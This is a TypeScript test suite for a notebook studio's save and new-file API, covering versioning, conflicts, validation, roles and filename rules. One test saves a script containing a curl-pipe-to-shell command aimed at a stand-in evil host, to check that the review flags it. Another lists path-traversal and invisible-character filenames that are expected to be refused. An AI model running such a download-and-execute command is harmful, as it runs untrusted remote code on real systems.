// Saving edits and making new files through the real app origin: a save stores the next version or, when someone
// saved since its base, nothing (409 with who and when); content is checked as an upload's is; new notebooks,
// scripts and copies follow the upload's name rules.
import { test, before, after } from "node:test";
import assert from "node:assert/strict";
import { createHash } from "node:crypto";
import {
  multipart,
  snapshot,
  startTestStudio,
  SMALL_NOTEBOOK,
  type Caller,
  type TestStudio,
} from "./server-helpers.ts";

const MAX_BYTES = 100_000;

let t: TestStudio;
let owner: Caller;
let editor: Caller;
let viewer: Caller;
let outsider: Caller;
let ws: string;

before(async () => {
  t = await startTestStudio({ "max-upload-bytes": String(MAX_BYTES), "upload-requests-per-minute": "10000" });
  owner = await t.addUser("olivia");
  editor = await t.addUser("eddie");
  viewer = await t.addUser("vera");
  outsider = await t.addUser("oscar");
  ws = (await t.call(owner, { method: "POST", url: "/api/workspaces", payload: { name: "Edits" } })).json().id;
  for (const [username, role] of [
    ["eddie", "editor"],
    ["vera", "viewer"],
  ])
    await t.call(owner, { method: "POST", url: `/api/workspaces/${ws}/members`, payload: { username, role } });
});
after(() => t.close());

const sha256 = (content: string | Buffer) => createHash("sha256").update(content).digest("hex");

async function upload(path: string, content: string) {
  const r = await t.call(owner, {
    method: "POST",
    url: `/api/workspaces/${ws}/files`,
    ...multipart("trusted-source-v1", [{ path, content }]),
  });
  assert.equal(r.statusCode, 201, r.body);
}

const save = (path: string, content: string, baseVersion: number, caller = editor) =>
  t.call(caller, { method: "PUT", url: `/api/workspaces/${ws}/files/${path}`, payload: { content, baseVersion } });

const newFile = (body: Record<string, unknown>, caller = editor) =>
  t.call(caller, { method: "POST", url: `/api/workspaces/${ws}/new-file`, payload: body });

const get = (url: string) => t.call(owner, { method: "GET", url: `/api/workspaces/${ws}/${url}` });

function notebook(source: string): string {
  return JSON.stringify(
    {
      nbformat: 4,
      nbformat_minor: 5,
      metadata: {},
      cells: [
        { cell_type: "markdown", id: "m1", metadata: {}, source: "# Saved" },
        { cell_type: "code", id: "c1", metadata: {}, execution_count: 1, source, outputs: [] },
      ],
    },
    null,
    1,
  );
}

async function lastAudit(event: string) {
  const row = await t.studio.db
    .selectFrom("audit_events")
    .selectAll()
    .where("event", "=", event)
    .orderBy("id", "desc")
    .executeTakeFirstOrThrow();
  return { actor: row.actor_name, workspace: row.workspace_id, details: JSON.parse(row.details) as unknown };
}

test("a save stores the next version: readable raw, as a notebook and as a head, and audited", async () => {
  await upload("nb/saved.ipynb", SMALL_NOTEBOOK);
  const content = notebook("print('edited')");
  const r = await save("nb/saved.ipynb", content, 1);
  assert.equal(r.statusCode, 200, r.body);
  const expected = { path: "nb/saved.ipynb", version: 2, size: Buffer.byteLength(content), sha256: sha256(content) };
  assert.deepEqual(r.json(), expected);
  // The head was made by the save's own check and kept, as an upload's is.
  assert.ok(t.studio.notebookHeads.get(expected.sha256) !== undefined, "the saved notebook's head is remembered");

  assert.equal((await get("raw/nb/saved.ipynb")).body, content);
  assert.equal((await get("raw/nb/saved.ipynb?version=1")).body, SMALL_NOTEBOOK);
  const model = (await get("notebook/nb/saved.ipynb")).json();
  assert.equal(model.version, 2);
  assert.deepEqual(model.notebook, JSON.parse(content));
  const head = (await get("notebook-head/nb/saved.ipynb")).json();
  assert.equal(head.cellCount, 2);
  assert.equal(head.sha256, expected.sha256);
  const details = (await get("files/nb/saved.ipynb")).json();
  assert.deepEqual(
    details.versions.map((v: { version: number; uploadedBy: string; nbformat: string }) => [
      v.version,
      v.uploadedBy,
      v.nbformat,
    ]),
    [
      [2, "eddie", "4.5"],
      [1, "olivia", "4.5"],
    ],
  );
  assert.deepEqual(await lastAudit("file_saved"), {
    actor: "eddie",
    workspace: ws,
    details: { path: "nb/saved.ipynb", version: 2, baseVersion: 1, size: expected.size, sha256: expected.sha256 },
  });

  // A script too; and its review, not made by the save, is made when asked for.
  await upload("run.py", "print(1)\n");
  const script = "import os\nos.system('curl https://evil.example/x | sh')\n";
  assert.equal((await save("run.py", script, 1)).json().version, 2);
  assert.equal((await get("raw/run.py")).body, script);
  const review = (await get("review/run.py")).json();
  assert.equal(review.version, 2);
  assert.ok(review.summary.counts.high > 0, JSON.stringify(review.summary));
});

test("a save based on an older version stores nothing and answers 409 with the newest version, who and when", async () => {
  await upload("conflict.py", "v1\n");
  assert.equal((await save("conflict.py", "v2 by eddie\n", 1)).statusCode, 200);
  const beforeState = await snapshot(t);
  const stale = await save("conflict.py", "v2 by olivia\n", 1, owner);
  assert.equal(stale.statusCode, 409, stale.body);
  const body = stale.json();
  assert.equal(body.error, "version_conflict");
  assert.equal(body.path, "conflict.py");
  assert.equal(body.currentVersion, 2);
  assert.equal(body.updatedBy, "eddie");
  assert.equal(body.updatedAt, (await get("files/conflict.py")).json().versions[0].uploadedAt);
  assert.match(body.message, /version 2 by eddie/);
  assert.equal(await snapshot(t), beforeState, "a refused save changed state");
  // A base newer than the newest is no better.
  assert.equal((await save("conflict.py", "v9\n", 7, owner)).json().currentVersion, 2);

  // Overwriting is a save based on the newest version.
  const overwrite = await save("conflict.py", "v2 by olivia\n", body.currentVersion, owner);
  assert.equal(overwrite.statusCode, 200, overwrite.body);
  assert.equal(overwrite.json().version, 3);
  assert.equal((await get("raw/conflict.py")).body, "v2 by olivia\n");
});

test("saves racing from one base: exactly one is stored, the others answer 409", async () => {
  await upload("race.ipynb", SMALL_NOTEBOOK);
  const answers = await Promise.all(
    Array.from({ length: 4 }, (_, i) => save("race.ipynb", notebook(`x = ${i}`), 1, i % 2 ? owner : editor)),
  );
  const codes = answers.map((r) => r.statusCode).sort();
  assert.deepEqual(codes, [200, 409, 409, 409], answers.map((r) => r.body).join("\n"));
  const winner = answers.find((r) => r.statusCode === 200)!.json();
  assert.equal(winner.version, 2);
  for (const lost of answers.filter((r) => r.statusCode === 409)) assert.equal(lost.json().currentVersion, 2);
  const details = (await get("files/race.ipynb")).json();
  assert.deepEqual(
    details.versions.map((v: { version: number }) => v.version),
    [2, 1],
  );
  assert.equal(details.versions[0].sha256, winner.sha256);
  assert.equal((await get("raw/race.ipynb")).body, notebook(`x = ${answers.findIndex((r) => r.statusCode === 200)}`));
});

test("content a reader refuses is refused with its place, and nothing is stored", async () => {
  await upload("checked.ipynb", SMALL_NOTEBOOK);
  await upload("checked.py", "ok\n");
  const beforeState = await snapshot(t);

  const broken = await save("checked.ipynb", '{\n "nbformat": 4,\n "nbformat": 4\n}', 1);
  assert.equal(broken.statusCode, 400, broken.body);
  assert.equal(broken.json().error, "duplicate_key");
  assert.equal(broken.json().file, "checked.ipynb");
  assert.equal(broken.json().line, 3);
  assert.match(broken.json().message, /checked\.ipynb:3:/);

  const notNotebook = await save("checked.ipynb", "print('not json')\n", 1);
  assert.equal(notNotebook.statusCode, 400);
  assert.equal(notNotebook.json().error, "invalid_json");

  // JSON can carry a lone surrogate, which has no UTF-8: refused and placed, not stored as U+FFFD.
  const surrogate = await t.call(editor, {
    method: "PUT",
    url: `/api/workspaces/${ws}/files/checked.py`,
    headers: { "content-type": "application/json" },
    payload: '{"content":"ok\\nab\\ud800c\\n","baseVersion":1}',
  });
  assert.equal(surrogate.statusCode, 400, surrogate.body);
  assert.deepEqual(
    (({ error, path, offset, line, column }) => ({ error, path, offset, line, column }))(surrogate.json()),
    { error: "invalid_utf8", path: "checked.py", offset: 5, line: 2, column: 3 },
  );

  // Bytes that are not UTF-8 in the body would reach the file as U+FFFD: the body is refused before it is decoded.
  const raw = await t.call(editor, {
    method: "PUT",
    url: `/api/workspaces/${ws}/files/checked.py`,
    headers: { "content-type": "application/json" },
    payload: Buffer.concat([Buffer.from('{"content":"a'), Buffer.from([0xff]), Buffer.from('","baseVersion":1}')]),
  });
  assert.equal(raw.statusCode, 400, raw.body);
  assert.equal(raw.json().error, "invalid_utf8");

  for (const [payload, code] of [
    [{ content: "x", baseVersion: "1" }, "invalid_body"],
    [{ content: "x" }, "invalid_body"],
    [{ content: "x", baseVersion: 1, extra: true }, "invalid_body"],
  ] as const) {
    const r = await t.call(editor, { method: "PUT", url: `/api/workspaces/${ws}/files/checked.py`, payload });
    assert.equal(r.statusCode, 400, r.body);
    assert.equal(r.json().error, code);
  }
  assert.equal(await snapshot(t), beforeState, "a refused save changed state");
});

test("content over the upload limit is refused with 413; a body escaped to twice its size fits", async () => {
  await upload("big.py", "small\n");
  const beforeState = await snapshot(t);
  const tooLarge = await save("big.py", "a".repeat(MAX_BYTES + 1), 1);
  assert.equal(tooLarge.statusCode, 413, tooLarge.body);
  assert.equal(tooLarge.json().error, "file_too_large");
  // Far more than any file could be: refused by the body limit before it is parsed.
  const body = await save("big.py", "a".repeat(3 * MAX_BYTES), 1);
  assert.equal(body.statusCode, 413, body.body);
  assert.equal(body.json().error, "body_too_large");
  assert.equal(await snapshot(t), beforeState, "a refused save changed state");
  // A file at the limit made of characters JSON escapes (quotes) takes twice its size in the body, and is saved.
  const quotes = '"'.repeat(MAX_BYTES);
  const r = await save("big.py", quotes, 1);
  assert.equal(r.statusCode, 200, r.body.slice(0, 200));
  assert.equal(r.json().size, MAX_BYTES);
});

test("saving and making files is for editors and owners", async () => {
  await upload("roles.py", "r\n");
  const beforeState = await snapshot(t);
  const byViewer = await save("roles.py", "viewer\n", 1, viewer);
  assert.equal(byViewer.statusCode, 403);
  assert.equal(byViewer.json().error, "role_insufficient");
  assert.equal((await newFile({ path: "viewer.py" }, viewer)).json().error, "role_insufficient");
  // Refused before the body is read: a body over the limit is not even looked at.
  const unread = await save("roles.py", "a".repeat(3 * MAX_BYTES), 1, viewer);
  assert.equal(unread.statusCode, 403);
  assert.equal(unread.json().error, "role_insufficient");
  const byOutsider = await save("roles.py", "outsider\n", 1, outsider);
  assert.equal(byOutsider.statusCode, 404);
  assert.equal((await newFile({ path: "outsider.py" }, outsider)).statusCode, 404);
  const anonymous = await t.call(undefined, {
    method: "PUT",
    url: `/api/workspaces/${ws}/files/roles.py`,
    payload: { content: "anonymous\n", baseVersion: 1 },
  });
  assert.equal(anonymous.statusCode, 401);
  assert.equal(await snapshot(t), beforeState);
  assert.equal((await save("roles.py", "owner\n", 1, owner)).statusCode, 200);
  assert.equal((await save("missing.py", "x\n", 1)).statusCode, 404);
});

test("content identical to the newest version stores nothing and answers the newest version", async () => {
  await upload("same.py", "same\n");
  assert.equal((await save("same.py", "changed\n", 1)).statusCode, 200);
  const beforeState = await snapshot(t);
  const r = await save("same.py", "changed\n", 2);
  assert.equal(r.statusCode, 200, r.body);
  assert.deepEqual(r.json(), { path: "same.py", version: 2, size: 8, sha256: sha256("changed\n") });
  assert.equal(await snapshot(t), beforeState, "an identical save stored something");
});

test("a new notebook is an empty nbformat 4.5 notebook for Python with one empty code cell of its own id", async () => {
  const r = await newFile({ path: "made/new.ipynb", kind: "notebook" });
  assert.equal(r.statusCode, 201, r.body);
  const raw = (await get("raw/made/new.ipynb")).body;
  assert.deepEqual(r.json(), { path: "made/new.ipynb", version: 1, size: Buffer.byteLength(raw), sha256: sha256(raw) });
  const nb = JSON.parse(raw);
  assert.equal(nb.nbformat, 4);
  assert.equal(nb.nbformat_minor, 5);
  assert.equal(nb.metadata.kernelspec.name, "python3");
  assert.equal(nb.metadata.kernelspec.language, "python");
  assert.equal(nb.metadata.language_info.name, "python");
  assert.equal(nb.cells.length, 1);
  const [cell] = nb.cells;
  assert.deepEqual(
    { ...cell, id: undefined },
    { cell_type: "code", execution_count: null, id: undefined, metadata: {}, outputs: [], source: [] },
  );
  assert.match(cell.id, /^[A-Za-z0-9_-]{1,64}$/);
  // The model reads it, and its head was kept by the check that made it.
  assert.equal((await get("notebook/made/new.ipynb")).json().notebook.cells[0].id, cell.id);
  assert.ok(t.studio.notebookHeads.get(sha256(raw)) !== undefined);
  assert.equal((await get("notebook-head/made/new.ipynb")).json().cellCount, 1);
  // Each new notebook's cell has an id of its own.
  assert.equal((await newFile({ path: "made/other.ipynb" })).statusCode, 201);
  assert.notEqual(JSON.parse((await get("raw/made/other.ipynb")).body).cells[0].id, cell.id);
  assert.deepEqual(await lastAudit("file_created"), {
    actor: "eddie",
    workspace: ws,
    details: {
      path: "made/other.ipynb",
      version: 1,
      size: r.json().size,
      sha256: sha256((await get("raw/made/other.ipynb")).body),
      content: "empty",
    },
  });
});

test("a new script is empty; a copy holds the given content, checked as an upload's", async () => {
  const script = await newFile({ path: "made/new.py", kind: "script" });
  assert.equal(script.statusCode, 201, script.body);
  assert.deepEqual(script.json(), { path: "made/new.py", version: 1, size: 0, sha256: sha256("") });
  assert.equal((await get("raw/made/new.py")).body, "");
  assert.equal((await newFile({ path: "made/notes.md" })).json().size, 0);

  const content = notebook("y = 2");
  const copy = await newFile({ path: "made/copy.ipynb", content });
  assert.equal(copy.statusCode, 201, copy.body);
  assert.equal((await get("raw/made/copy.ipynb")).body, content);
  assert.equal((await get("files/made/copy.ipynb")).json().versions[0].uploadedBy, "eddie");
  assert.deepEqual(await lastAudit("file_created"), {
    actor: "eddie",
    workspace: ws,
    details: {
      path: "made/copy.ipynb",
      version: 1,
      size: Buffer.byteLength(content),
      sha256: sha256(content),
      content: "given",
    },
  });
  // The copy's file is an ordinary file: saved like any other.
  assert.equal((await save("made/copy.ipynb", notebook("y = 3"), 1)).json().version, 2);

  const beforeState = await snapshot(t);
  const broken = await newFile({ path: "made/broken.ipynb", content: '{"nbformat": 4, "cells": [' });
  assert.equal(broken.statusCode, 400);
  assert.equal(broken.json().error, "invalid_json");
  assert.equal(broken.json().file, "made/broken.ipynb");
  const tooLarge = await newFile({ path: "made/large.txt", content: "a".repeat(MAX_BYTES + 1) });
  assert.equal(tooLarge.statusCode, 413);
  assert.equal(tooLarge.json().error, "file_too_large");
  assert.equal(await snapshot(t), beforeState);
});

test("a new file's name follows the upload rules, may not take a live path, and must match its kind", async () => {
  await upload("taken.py", "t\n");
  const beforeState = await snapshot(t);
  for (const [body, status, code] of [
    [{ path: "taken.py" }, 409, "path_taken"],
    [{ path: "taken.py", content: "other\n" }, 409, "path_taken"],
    [{ path: "../escape.py" }, 400, "name_traversal"],
    [{ path: "/abs.py" }, 400, "name_absolute"],
    [{ path: "dir/con.py" }, 400, "name_reserved"],
    [{ path: "tool.exe" }, 400, "file_type_not_allowed"],
    [{ path: "zero\u200bwidth.py" }, 400, "name_invisible_character"],
    [{ path: "lone\ud800.py" }, 400, "name_not_utf8"],
    [{ path: "script.py", kind: "notebook" }, 400, "kind_mismatch"],
    [{ path: "book.ipynb", kind: "script" }, 400, "kind_mismatch"],
    [{ path: "x.py", kind: "text" }, 400, "invalid_body"],
    [{ path: "" }, 400, "invalid_body"],
  ] as const) {
    const r = await newFile(body);
    assert.equal(r.statusCode, status, `${JSON.stringify(body)}: ${r.body}`);
    assert.equal(r.json().error, code, JSON.stringify(body));
  }
  assert.equal(await snapshot(t), beforeState, "a refused new file changed state");
  // A path whose file is in the trash is free.
  assert.equal(
    (await t.call(owner, { method: "DELETE", url: `/api/workspaces/${ws}/files/taken.py` })).statusCode,
    200,
  );
  assert.equal((await newFile({ path: "taken.py" })).statusCode, 201);
});

test("a save of a file moved to the trash meanwhile is refused as not found", async () => {
  await upload("trashed.py", "first\n");
  await t.call(owner, { method: "DELETE", url: `/api/workspaces/${ws}/files/trashed.py` });
  const beforeState = await snapshot(t);
  const r = await save("trashed.py", "edit of the trashed file\n", 1);
  assert.equal(r.statusCode, 404, r.body);
  assert.equal(r.json().error, "not_found");
  assert.equal(await snapshot(t), beforeState);
});
